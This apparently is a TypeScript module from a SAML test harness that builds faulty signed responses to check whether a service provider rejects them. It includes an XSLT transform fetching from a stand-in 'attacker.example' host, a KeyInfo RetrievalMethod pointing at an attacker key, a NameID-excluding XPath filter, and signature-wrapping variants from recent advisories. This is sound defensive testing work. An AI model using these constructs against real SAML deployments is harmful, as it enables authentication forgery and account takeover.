import type { Document, Element, Node } from '@xmldom/xmldom'
import {
  childElements,
  firstChildElement,
  isText,
  ns,
  parseXml,
  serializeXml,
  textContent,
} from '../../../core/xml/index.ts'
import type { FaultOf } from '../schema.ts'

const xslt = 'http://www.w3.org/TR/1999/REC-xslt-19991116'
const xpath = 'http://www.w3.org/TR/1999/REC-xpath-19991116'
const unknownC14n = 'http://ssoproof.invalid/fault#unknown-c14n'

/** Every ds:Signature of the message, outer (Response) and inner (Assertion). */
function signaturesOf(doc: Document): Element[] {
  return Array.from(doc.getElementsByTagNameNS(ns.ds, 'Signature'))
}

function dsChild(parent: Element | undefined, localName: string): Element | undefined {
  return parent ? firstChildElement(parent, ns.ds, localName) : undefined
}

function referenceOf(signature: Element): Element | undefined {
  return dsChild(dsChild(signature, 'SignedInfo'), 'Reference')
}

/** A ds:Object appended to the Signature (xmldsig-core 4.6), holding `content`. */
function appendObject(doc: Document, signature: Element, content: Node): void {
  const object = doc.createElementNS(ns.ds, 'ds:Object')
  object.appendChild(content)
  signature.appendChild(object)
}

/**
 * Catalogue item 2: the SignatureValue of the signature made last (the first in document order)
 * emptied, or replaced by base64 of the same length that is no signature (the real bytes, each
 * XOR 0x5a: reproducible, and never verifies). Called after each signing step, so every
 * SignatureValue is broken while every digest still matches.
 */
export function breakSignatureValue(xml: string, fault: FaultOf<'saml-signature-value'>): string {
  const doc = parseXml(xml)
  const value = dsChild(signaturesOf(doc)[0], 'SignatureValue')
  if (!value) return xml
  const bytes = Buffer.from(textContent(value).replace(/\s+/g, ''), 'base64')
  const text =
    fault.value === 'empty' ? '' : Buffer.from(bytes.map((b) => b ^ 0x5a)).toString('base64')
  while (value.firstChild) value.removeChild(value.firstChild)
  if (text !== '') value.appendChild(doc.createTextNode(text))
  return serializeXml(doc)
}

/**
 * Catalogue item 6, after signing (xml-crypto implements none of these): an XSLT transform that
 * would fetch an attacker's document, an XPath filter that would leave the NameID out of the
 * digest, a RetrievalMethod pointing KeyInfo at an attacker's key, or an unknown
 * CanonicalizationMethod. The SP must refuse on its algorithm policy before running anything.
 * (`c14n-with-comments` is signed validly instead: see build-faulty-response.ts.)
 */
export function addDangerousTransform(
  doc: Document,
  fault: FaultOf<'saml-signature-transform'>,
): void {
  for (const signature of signaturesOf(doc)) {
    switch (fault.transform) {
      case 'xslt':
        prependTransform(doc, signature, xslt, xsltStylesheet(doc))
        break
      case 'xpath': {
        const filter = doc.createElementNS(ns.ds, 'ds:XPath')
        filter.setAttributeNS('http://www.w3.org/2000/xmlns/', 'xmlns:saml', ns.saml)
        filter.appendChild(doc.createTextNode('not(ancestor-or-self::saml:NameID)'))
        prependTransform(doc, signature, xpath, filter)
        break
      }
      case 'retrieval-method': {
        let keyInfo = dsChild(signature, 'KeyInfo')
        if (!keyInfo) {
          keyInfo = doc.createElementNS(ns.ds, 'ds:KeyInfo')
          signature.appendChild(keyInfo)
        }
        const retrieval = doc.createElementNS(ns.ds, 'ds:RetrievalMethod')
        retrieval.setAttribute('URI', 'https://attacker.example/ssoproof-key')
        retrieval.setAttribute('Type', 'http://www.w3.org/2000/09/xmldsig#X509Data')
        keyInfo.insertBefore(retrieval, keyInfo.firstChild)
        break
      }
      case 'unknown-c14n':
        dsChild(dsChild(signature, 'SignedInfo'), 'CanonicalizationMethod')?.setAttribute(
          'Algorithm',
          unknownC14n,
        )
        break
      case 'c14n-with-comments':
        break
    }
  }
}

function prependTransform(doc: Document, signature: Element, uri: string, content: Node): void {
  const transforms = dsChild(referenceOf(signature), 'Transforms')
  if (!transforms) return
  const transform = doc.createElementNS(ns.ds, 'ds:Transform')
  transform.setAttribute('Algorithm', uri)
  transform.appendChild(content)
  transforms.insertBefore(transform, transforms.firstChild)
}

function xsltStylesheet(doc: Document): Element {
  const xsl = 'http://www.w3.org/1999/XSL/Transform'
  const stylesheet = doc.createElementNS(xsl, 'xsl:stylesheet')
  stylesheet.setAttribute('version', '1.0')
  const template = doc.createElementNS(xsl, 'xsl:template')
  template.setAttribute('match', '/')
  const copy = doc.createElementNS(xsl, 'xsl:copy-of')
  copy.setAttribute('select', "document('https://attacker.example/ssoproof-xslt')")
  template.appendChild(copy)
  stylesheet.appendChild(template)
  return stylesheet
}

/**
 * Catalogue item 8 (the 2024–2025 ruby-saml and xml-crypto advisories), after signing:
 *   reference-outside-signed-info     a second Reference, in a ds:Object of the Signature
 *   digest-value-outside-signed-info  a second DigestValue (another digest), in a ds:Object
 *   two-signed-info                   a copy of SignedInfo before the real one
 *   digest-value-comment              the real DigestValue split by a comment (exclusive c14n
 *                                     drops it, so the signature over SignedInfo still holds)
 */
export function changeSignatureStructure(
  doc: Document,
  fault: FaultOf<'saml-signature-structure'>,
): void {
  for (const signature of signaturesOf(doc)) {
    const signedInfo = dsChild(signature, 'SignedInfo')
    const reference = referenceOf(signature)
    const digestValue = dsChild(reference, 'DigestValue')
    if (!signedInfo || !reference || !digestValue) continue
    switch (fault.change) {
      case 'reference-outside-signed-info':
        appendObject(doc, signature, reference.cloneNode(true))
        break
      case 'digest-value-outside-signed-info': {
        const other = doc.createElementNS(ns.ds, 'ds:DigestValue')
        other.appendChild(doc.createTextNode(Buffer.alloc(32, 0x5a).toString('base64')))
        appendObject(doc, signature, other)
        break
      }
      case 'two-signed-info':
        signature.insertBefore(signedInfo.cloneNode(true), signedInfo)
        break
      case 'digest-value-comment': {
        const text = digestValue.firstChild
        if (!isText(text) || childElements(digestValue).length > 0) break
        const tail = text.splitText(Math.floor(textContent(digestValue).length / 2))
        digestValue.insertBefore(doc.createComment('ssoproof'), tail)
        break
      }
    }
  }
}
